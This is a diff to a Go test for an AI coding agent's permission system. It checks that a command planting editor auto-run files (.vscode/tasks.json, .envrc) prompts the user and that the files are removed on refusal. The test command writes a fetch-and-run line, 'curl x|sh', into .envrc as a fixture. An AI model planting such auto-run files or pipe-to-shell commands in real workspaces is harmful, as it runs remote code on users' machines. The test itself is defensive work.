@@ -3,6 +3,8 @@ package agent
 import (
 	"context"
 	"errors"
+	"os"
+	"path/filepath"
 	"strings"
 	"sync"
 	"testing"
@@ -10,6 +12,7 @@ import (
 	"github.com/agentls/agentls/agentproto"
 	"github.com/agentls/agentls/config"
 	"github.com/agentls/agentls/permission"
+	"github.com/agentls/agentls/sandbox"
 )
 
 // TestAutoRunCommandAsked: a command that plants files the editor or
@@ -23,7 +26,7 @@ import (
 // and the files stayed.
 func TestAutoRunCommandAsked(t *testing.T) {
 	t.Parallel()
-	const command = `mkdir -p .vscode && echo '{"tasks":[]}' > .vscode/tasks.json && echo 'curl x|sh' > .envrc`
+	const command = `mkdir -p sub/.vscode && echo '{"tasks":[]}' > sub/.vscode/tasks.json && echo 'curl x|sh' > sub/.envrc`
 	for _, tc := range []struct {
 		name   string
 		answer func(cancel context.CancelFunc) (AskReply, error) // nil: no surface
@@ -64,13 +67,23 @@ func TestAutoRunCommandAsked(t *testing.T) {
 					return tc.answer(cancel)
 				}
 			}
-			cmd, files := command, []string{".vscode/tasks.json", ".envrc"}
+			cmd, files := command, []string{"sub/.vscode/tasks.json", "sub/.envrc"}
 			var allow []string
 			if tc.answer == nil { // a rule lets it run unasked, and no one can be asked after it
-				cmd, files, allow = "touch .envrc", []string{".envrc"}, []string{"touch .envrc"}
+				cmd, files, allow = "touch sub/.envrc", []string{"sub/.envrc"}, []string{"touch sub/.envrc"}
 			}
 			script := "name: sentinel\nsteps:\n  - tool_calls:\n      - {id: c, name: run, args: {command: " + quoteYAML(cmd) + "}}\n  - text: done\n"
-			m, _ := newTestManager(t, script, ed, func(c *config.Config) { c.Run.Allow = allow })
+			m, _ := newTestManager(t, script, ed, func(c *config.Config) {
+				c.Run.Allow = allow
+				if sandbox.Detect().Status(sandbox.ModeLandlock).Mode == string(sandbox.ModeLandlock) {
+					// Landlock alone: no bwrap, whose start fails when a socket in /tmp vanishes
+					// between its look-up and the start (docs/guard.md); new files in sub/ get through.
+					c.Sandbox.Mode = string(sandbox.ModeLandlock)
+				}
+			})
+			if err := os.MkdirAll(filepath.Join(m.ws.Root(), "sub"), 0o755); err != nil {
+				t.Fatal(err)
+			}
 			s := newTestSession(t, m, "build")
 			_, _ = m.Prompt(ctx, PromptRequest{SessionID: s.ID(), Text: "go"})
 			dir := m.ws.Root()
@@ -79,8 +92,8 @@ func TestAutoRunCommandAsked(t *testing.T) {
 					t.Errorf("%s exists = %v after %s", rel, exists(dir, rel), tc.name)
 				}
 			}
-			if !tc.keep && tc.answer != nil && exists(dir, ".vscode") {
-				t.Errorf(".vscode, made by the command, is still there after %s", tc.name)
+			if !tc.keep && tc.answer != nil && exists(dir, "sub/.vscode") {
+				t.Errorf("sub/.vscode, made by the command, is still there after %s", tc.name)
 			}
 			if result := ed.toolResult("c"); tc.told != "" && !strings.Contains(result, tc.told) {
 				t.Errorf("the model read %s, want %q", result, tc.told)
@@ -99,12 +112,12 @@ func TestAutoRunCommandAsked(t *testing.T) {
 				p.Options[1].Kind != agentproto.AllowOnce || p.Options[1].Label != "Keep" {
 				t.Errorf("the question %+v", p)
 			}
-			for _, want := range []string{"- `.vscode/tasks.json`: created", "- `.envrc`: created", "outside agentls's sandbox", "Keep what the command "} {
+			for _, want := range []string{"- `sub/.vscode/tasks.json`: created", "- `sub/.envrc`: created", "outside agentls's sandbox", "Keep what the command "} {
 				if !strings.Contains(text, want) {
 					t.Errorf("the question's text lacks %q:\n%s", want, text)
 				}
 			}
-			if title := p.Title(); !strings.Contains(title, "created .vscode/tasks.json") || !strings.HasPrefix(title, "Keep what ") {
+			if title := p.Title(); !strings.Contains(title, "created sub/.vscode/tasks.json") || !strings.HasPrefix(title, "Keep what ") {
 				t.Errorf("title %q", title)
 			}
 		})
